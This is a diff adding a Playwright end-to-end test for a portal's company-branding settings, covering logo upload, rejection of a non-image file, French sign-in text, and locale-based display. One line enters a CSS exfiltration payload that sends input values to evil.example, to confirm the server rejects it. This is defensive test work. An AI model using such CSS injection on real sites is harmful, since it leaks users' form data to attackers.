@@ -1,0 +1,76 @@
+// Company branding (SPEC A8, C11) edited entirely in the portal: the first administrator uploads a
+// square logo, sees a wrong file refused as it is chosen and custom CSS that could read the page
+// refused with the server's message, then picks French in the language selector and sets a French
+// sign-in text. A French customer's sign-in page shows the square logo and the French text; an
+// English one keeps the default's. The branding is put back as it was at the end.
+import { test, expect } from '@playwright/test';
+import * as path from 'node:path';
+import { AdminPortal, adminState } from './fixtures/admin_pages';
+
+const BRANDING = '/api/graph/v1.0/organization/contoso/branding';
+
+test.use({ storageState: adminState() });
+
+test('a square logo and a French sign-in text set in the portal show on the French sign-in page', async ({
+  page,
+  baseURL,
+  browser,
+}) => {
+  const headers = { 'x-sspr-csrf': '1', origin: baseURL! };
+  try {
+    const admin = new AdminPortal(page);
+    await page.goto('/admin');
+    await admin.open('Company branding');
+
+    // A file that is not an image is refused as it is chosen, and said.
+    await page.getByLabel('Square logo').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('hello') });
+    await expect(page.getByRole('alert').filter({ hasText: 'Choose a PNG, JPEG or WebP image.' })).toBeVisible();
+    await page.getByLabel('Square logo').setInputFiles(path.join(__dirname, 'fixtures', 'contoso-square.png'));
+    await expect(page.getByText('Choose a PNG, JPEG or WebP image.')).toHaveCount(0);
+
+    // CSS that could read the page is refused; the server's reason is announced next to it.
+    await page.getByLabel('Custom CSS').fill('input[value^="a"] { background: url(https://evil.example/a); }');
+    await page.getByRole('button', { name: 'Save' }).click();
+    const refused = page.getByRole('alert').filter({ hasText: 'This CSS was not saved:' });
+    await expect(refused).toBeVisible();
+    await expect(page.getByLabel('Custom CSS')).toHaveAttribute('aria-invalid', 'true');
+    await page.getByLabel('Custom CSS').fill('');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await expect(page.getByText('Your changes are saved.')).toBeVisible();
+    const saved = await (await page.request.get(BRANDING)).json();
+    expect(saved.squareLogoRelativeUrl).toMatch(/^assets\/[0-9a-f]{64}\.png$/);
+
+    // The French texts: the language selector switches the form to the French localization.
+    await page.getByLabel('Texts for').selectOption('fr-FR');
+    // The French form replaces the default's (and its "saved" notice) once it is loaded.
+    await expect(page.getByText('Your changes are saved.')).toHaveCount(0);
+    await expect(page.getByLabel('Sign-in page text')).toHaveValue('');
+    await page.getByLabel('Sign-in page text').fill('Bienvenue chez Contoso : connectez-vous ici.');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await expect(page.getByText('Your changes are saved.')).toBeVisible();
+    await expect
+      .poll(async () => (await (await page.request.get(`${BRANDING}/localizations/fr-FR`)).json()).signInPageText)
+      .toBe('Bienvenue chez Contoso : connectez-vous ici.');
+
+    // A French customer sees the square logo and the French text.
+    const frenchContext = await browser.newContext({ locale: 'fr-FR' });
+    const customer = await frenchContext.newPage();
+    await customer.goto('/sign-in');
+    await expect(customer.getByText('Bienvenue chez Contoso : connectez-vous ici.')).toBeVisible();
+    const logo = customer.getByRole('img', { name: 'Contoso' });
+    await expect(logo).toBeVisible();
+    await expect.poll(() => logo.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(96);
+    await frenchContext.close();
+
+    // An English one keeps the default's (no French text).
+    const englishContext = await browser.newContext({ locale: 'en-GB' });
+    const english = await englishContext.newPage();
+    await english.goto('/sign-in');
+    await expect(english.getByRole('img', { name: 'Contoso' })).toBeVisible();
+    await expect(english.getByText('Bienvenue chez Contoso : connectez-vous ici.')).toHaveCount(0);
+    await englishContext.close();
+  } finally {
+    await page.request.put(`${BRANDING}/squareLogo`, { headers: { ...headers, 'content-type': 'image/png' }, data: Buffer.alloc(0) });
+    await page.request.delete(`${BRANDING}/localizations/fr-FR`, { headers });
+  }
+});
